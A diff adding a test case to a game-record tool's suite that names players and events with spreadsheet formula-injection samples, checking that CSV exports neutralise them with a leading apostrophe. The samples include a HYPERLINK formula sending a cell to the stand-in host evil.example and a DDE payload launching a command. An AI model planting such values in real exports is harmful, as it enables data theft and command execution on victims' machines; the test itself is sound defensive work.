@@ -1005,6 +1005,26 @@ def bidi_names() -> bytes:
     return "\n".join((game, game, trigeo)).encode()
 
 
+#: Names a spreadsheet would run as formulas (OWASP's examples), as
+#: players, an event and a site
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+)
+
+
+def formula_names() -> bytes:
+    """Two games between players named as formulas, in an event so named."""
+    tag = [name.replace('"', '\\"') for name in FORMULAS]
+    return "".join(
+        f'[Game "Hexalit"]\n[Event "{tag[0]}"]\n[Site "{tag[3]}"]\n'
+        f'[North "{tag[i]}"]\n[South "{tag[i + 1]}"]\n[Result "1-0"]\n\n1. B4W3 1-0\n\n'
+        for i in (0, 2)
+    ).encode()
+
+
 def ring() -> bytes:
     """An event of ``ring_players`` players in a ring, each playing the next
     (P0-P1, P1-P2, ...): a crosstable with a row and a column each grows
@@ -1349,6 +1369,12 @@ CASES: list[Case] = [
             ("mixed-games-bidi", "a.hxl", bidi_names),
             ("not-utf8", "a.hxl", not_utf8),
         )
+    ),
+    Case(
+        "formula-names",
+        _file("a.hxl", formula_names),
+        ("find-csv", "find-sorted-csv", "crosstable-csv", "crosstable", "find", "crosstable-json"),
+        notes="a CSV cell that starts as a formula starts with ' instead",
     ),
     Case(
         "crosstable-ring",
